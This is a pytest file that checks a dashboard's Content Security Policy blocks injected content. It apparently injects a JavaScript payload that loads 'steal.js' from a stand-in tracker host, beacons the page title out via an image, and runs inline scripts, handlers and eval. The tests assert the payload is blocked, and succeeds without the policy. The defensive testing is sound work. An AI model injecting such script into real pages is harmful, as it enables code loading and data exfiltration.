"""Each page's content security policy is in force: what didn't come with the page doesn't run."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from dashboards.pages.layout import PAGES

Open = Callable[..., Any]
WORLD = "clear_difference"
FILES = [file for _, file, _ in PAGES]
FIRST = FILES[:2]

SNEAKED_IN = """() => new Promise(done => {
    const blocked = [];
    document.addEventListener('securitypolicyviolation',
        event => blocked.push(event.effectiveDirective));
    window.stolen = [];
    const add = (tag, parts) => document.body.append(
        Object.assign(document.createElement(tag), parts));
    add('script', {textContent: "window.stolen.push('inline script')"});
    add('script', {src: 'https://tracker.example/steal.js'});
    add('img', {src: 'https://tracker.example/pixel.gif?' + document.title});
    add('iframe', {src: 'https://tracker.example/'});
    add('style', {textContent: 'body { outline: 7px solid red }'});
    const button = document.createElement('button');
    button.setAttribute('onclick', "window.stolen.push('handler')");
    document.body.append(button);
    button.click();
    // Not at once: the tool that runs these lines may use eval while it does.
    setTimeout(() => {
        try { window.stolen.push(eval("'eval'")); } catch { blocked.push('eval'); }
    }, 0);
    fetch('https://tracker.example/').then(
        () => window.stolen.push('fetch'), () => {});
    setTimeout(() => done({
        blocked, stolen: window.stolen,
        outline: getComputedStyle(document.body).outlineWidth,
    }), 500);
})"""


@pytest.mark.parametrize(
    "file", [*FIRST, *(pytest.param(each, marks=pytest.mark.slow) for each in FILES[len(FIRST) :])]
)
def test_nothing_runs_or_leaves_that_did_not_come_with_the_page(open_page: Open, file: str) -> None:
    page = open_page(WORLD, file=file)
    assert page.complaints == []
    sent: list[str] = []
    page.on("response", lambda answer: sent.append(answer.url))
    found = page.evaluate(SNEAKED_IN)
    assert found["stolen"] == []
    assert found["outline"] != "7px"
    blocked = set(found["blocked"])
    assert {"script-src-elem", "script-src-attr", "style-src-elem", "img-src", "eval"} <= blocked
    assert {"connect-src", "frame-src"} <= blocked
    assert not [url for url in sent if url.startswith("http")]


def test_without_the_policy_the_same_page_would_run_it(open_page: Open, tmp_path: Any) -> None:
    """The attempts above are real: take the policy away, and they succeed."""
    page = open_page(WORLD)
    text = page.content()
    start = text.index('<meta http-equiv="Content-Security-Policy"')
    bare = tmp_path / "bare.html"
    bare.write_text(text[:start] + text[text.index(">", start) + 1 :], "utf-8")
    page.goto(bare.as_uri())
    found = page.evaluate(SNEAKED_IN)
    assert {"inline script", "handler", "eval"} <= set(found["stolen"])
    assert found["outline"] == "7px"
